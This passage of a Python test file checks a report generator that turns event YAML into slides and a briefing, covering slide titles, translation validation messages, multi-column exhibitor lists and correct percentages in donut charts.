    return [slide.shapes.title.text.replace("\u00a0", " ") for slide in prs.slides if slide.shapes.title]


def news_titles_its_section(out: Path) -> None:
    titles = _deck_titles(out)
    assert [t for t in titles if t.startswith("The fair generated business of")], titles
    assert not [t for t in titles if t.startswith("Hotels in the district")], titles


def courtesy_no_title(out: Path) -> None:
    titles = _deck_titles(out)
    assert not [t for t in titles if "thanked" in t], titles
    # what was said is on the slide: its title, or the quotation set as a quote under it (round 16)
    said = "\n".join([*titles, *pptx_slide_texts(out / "te-2025-deck.pptx")])
    assert "Every runner today has given a family a night of rest. Thank you" in said, titles


def no_fragment_lead(out: Path) -> None:
    lines = "\n".join(pptx_slide_texts(out / "te-2025-deck.pptx")).split("\n")
    assert not [line for line in lines if line.startswith("With a new pay-what-you-can")], lines


def number_said_once(out: Path) -> None:
    titles = _deck_titles(out)
    assert "Seven start-ups closed their seed round on the same day" in titles, titles


TITLES = [
    Case(
        "a-section-of-voices-titled-with-a-template-looking-quotation",
        "data",
        event_text(MINIMAL + _VOICES),
        0,
        "built TE 2025",
        check=voices_titled_with_a_quotation,
    ),
    Case(
        "the-news-titles-its-section",
        "data",
        event_text(MINIMAL + _NEWS),
        0,
        "built TE 2025",
        check=news_titles_its_section,
    ),
    Case(
        "a-courtesy-titles-no-slide",
        "data",
        event_text(MINIMAL + _COURTESY),
        0,
        "built TE 2025",
        check=courtesy_no_title,
    ),
    Case(
        "a-cut-summary-leaves-no-fragment",
        "data",
        event_text(MINIMAL + _FRAGMENT),
        0,
        "built TE 2025",
        check=no_fragment_lead,
    ),
    Case(
        "a-title-says-its-number-once",
        "data",
        event_text(MINIMAL + _RESTATED),
        0,
        "built TE 2025",
        check=number_said_once,
    ),
]


# -- translations in one file (issue 20 item 5): only printed text is translated, only into languages -


_LABEL = "sections.reach.figures.online_viewers.label"
TRANSLATIONS = [
    Case(
        "translation-unknown-tag",
        "data",
        edited("label: Online viewers", "label: {en: Online viewers, english: Viewers}"),
        3,
        f"event.yaml:18:46: {_LABEL}.english: 'english' is not a language tag",
    ),
    Case(
        "translation-of-a-number",
        "data",
        edited("value: 1000", "value: {en: 1000, zh: 1000}"),
        3,
        "event.yaml:19:16: sections.reach.figures.online_viewers.value: takes one value in every language",
    ),
    Case(
        "translation-of-a-qualifier",
        "data",
        edited("qualifier: more than", "qualifier: {en: more than, zh: 超过}"),
        3,
        "event.yaml:20:20: sections.reach.figures.online_viewers.qualifier: takes one value in every",
    ),
    Case(
        "translation-of-a-comment",  # never printed: one text
        "data",
        edited("        key: true\n", "        key: true\n        comment: {en: ask, zh: 问}\n"),
        3,
        "sections.reach.figures.online_viewers.comment: takes one value in every language",
    ),
    Case(
        "translation-is-a-list",
        "data",
        edited("unit: viewers", "unit: {en: viewers, zh: [人]}"),
        3,
        "event.yaml:21:33: sections.reach.figures.online_viewers.unit.zh: the zh translation must be text",
    ),
    Case(
        "translation-is-a-number",
        "data",
        edited("unit: viewers", "unit: {en: viewers, de: 5}"),
        3,
        "sections.reach.figures.online_viewers.unit.de: the de translation must be text, got 5",
    ),
    Case(
        "translation-is-a-mapping",
        "data",
        edited("unit: viewers", "unit: {en: {zh: viewers}}"),
        3,
        "sections.reach.figures.online_viewers.unit.en: the en translation must be text, got a mapping",
    ),
    Case(
        "translation-mapping-empty",
        "data",
        edited("label: Online viewers", "label: {}"),
        3,
        f"event.yaml:18:16: {_LABEL}: an empty translation mapping",
    ),
    Case(
        "translation-control-character",
        "data",
        edited("label: Online viewers", 'label: {en: Online viewers, zh: "线\\x01"}'),
        3,
        f"{_LABEL}.zh: the zh translation contains the character U+0001 at position 2",
    ),
    Case(
        "translation-twice-for-one-language",
        "data",
        edited("label: Online viewers", "label: {zh-CN: a, zh_CN: b}"),
        3,
        f"{_LABEL}.zh_CN: two translations for zh_CN; keep one",
    ),
    Case(
        "translation-of-a-whole-list",
        "data",
        edited("items: [one, two]", "items: {en: [one, two], zh: [一, 二]}"),
        3,
        "event.yaml:26:16: sections.reach.lists.topics.items: a list is translated item by item",
    ),
    Case(
        "translation-too-long-for-its-chart",  # each language's text is checked as the first one's
        "data",
        event_text(
            MINIMAL.replace("sections:", "formatting:\n  languages: [en_GB, de_DE]\nsections:").replace(
                "label: Online viewers", "label: {en: Online viewers, de: " + "x" * 150 + "}"
            )
            + "charts:\n  c:\n    title: T\n    kind: bar\n    figures: [reach.online_viewers]\n"
        ),
        3,
        "event.yaml: charts.c: in de_DE: chart 'c' has a label of 150 characters",
    ),
    Case(
        "languages-unknown",
        "data",
        edited("sections:", "formatting:\n  languages: [en_GB, xx_YY]\nsections:"),
        3,
        "event.yaml: formatting.languages: unknown locale 'xx_YY'",
    ),
    Case(
        "languages-and-another-locale",
        "data",
        edited("sections:", "formatting:\n  locale: fr_FR\n  languages: [en_GB, de_DE]\nsections:"),
        3,
        "formatting.locale fr_FR is not among formatting.languages; with languages, leave locale out",
    ),
]

# -- long lists: by measure, in columns, over as few slides as they need (issue 19 class 3) ---------

#: Review J: 30 exhibitors, some long, took six slides of five; here under a label that says the
#: section's title again ('Reach' then 'Reach:').
EXHIBITORS = [f"Cantiere Navale Numero {n} della Spezia" if n % 7 == 0 else f"Impresa {n}" for n in range(30)]


def _list_in_columns(out: Path) -> None:
    slides = pptx_slide_texts(out / "te-2025-deck.pptx")
    holding = [s for s in slides if any(item in s.split("\n") for item in EXHIBITORS)]
    lines = [line for s in slides for line in s.split("\n")]
    assert len(holding) <= 2 and sorted(x for x in lines if x in EXHIBITORS) == sorted(EXHIBITORS)
    assert "Reach:" not in lines


LISTS = [
    Case(
        "list-of-thirty-in-columns",
        "data",
        edited(
            "        label: Topics\n        items: [one, two]",
            "        label: Reach\n        items: [" + ", ".join(EXHIBITORS) + "]",
        ),
        0,
        "built TE 2025",
        check=_list_in_columns,
    ),
    Case(
        "list-columns-out-of-range",
        "data",
        edited("        label: Topics\n", "        label: Topics\n        columns: 5\n"),
        3,
        "sections.reach.lists.topics.columns: expected 1, 2 or 3, got 5",
    ),
]

# -- review 4b: a qualifier said twice, a donut whose parts do not make its whole ---------------------

_DOUBLED = MINIMAL.replace(
    "    lists:\n",
    "      stands:\n        label: Stands\n        value: 1000\n        qualifier: more than\n"
    '        unit: stands\n        sentence: "The stands exceeded {value}."\n    lists:\n',
    1,
)
_OVERLAPPING = MINIMAL.replace(
    "        key: true\n",
    "        key: true\n"
    "        breakdown:\n"
    "          a: {label: Stream A, value: 700, unit: viewers}\n"
    "          b: {label: Stream B, value: 500, unit: viewers}\n"
    "          c: {label: Stream C, value: 100, unit: viewers}\n",
    1,
) + (
    "charts:\n  streams:\n    title: Viewers by stream\n    kind: donut\n    breakdown: true\n"
    "    figures: [reach.online_viewers]\n    caption: Stream A drew the most viewers\n"
)


def _said_once(out: Path) -> None:
    """'exceeded' says 'more than': never 'exceeded more than 1,000'."""
    from ..conftest import pptx_slide_texts

    texts = docx_text(out / "te-2025-briefing.docx") + "\n".join(pptx_slide_texts(out / "te-2025-deck.pptx"))
    assert "The stands exceeded 1,000 stands." in texts and "exceeded more than" not in texts


def _overlap_said(out: Path) -> None:
    """Parts of 700, 500 and 100 of 'more than 1,000': their 1,300 is what 'more than 1,000'
    describes, and their shares are of it (review SS1 #2: never 70 + 50 + 10 = 130 %)."""
    text = seen(docx_text(out / "te-2025-briefing.docx"))  # 'up to' is tied: ties aside
    assert "Stream A drew the most viewers" in text  # the caption
    with zipfile.ZipFile(out / "te-2025-briefing.docx") as docx:
        alt = docx.read("word/document.xml").decode("utf-8")  # the picture's alt text
    assert "Stream A: 700 (54%)" in alt and "130%" not in alt + text


REVIEW_4B = [
    Case(
        "own-sentence-doubled-qualifier", "data", event_text(_DOUBLED), 0, "built TE 2025", check=_said_once
    ),
    Case("donut-parts-overlap", "data", event_text(_OVERLAPPING), 0, "built TE 2025", check=_overlap_said),
]

MORE = (
    REVIEW_4B
    + SANDBOX
    + LISTS
    + CHART_ORDER
    + OUTSIDE
    + EMBEDDED
    + PARTS
    + DATA
    + ENVIRONMENT
    + AGREEMENT
    + NUMBERS
    + YAML_AGREEMENT
    + DOCUMENT_CHECK
    + THEMES
    + SENTENCES
    + TITLES
    + TRANSLATIONS
)
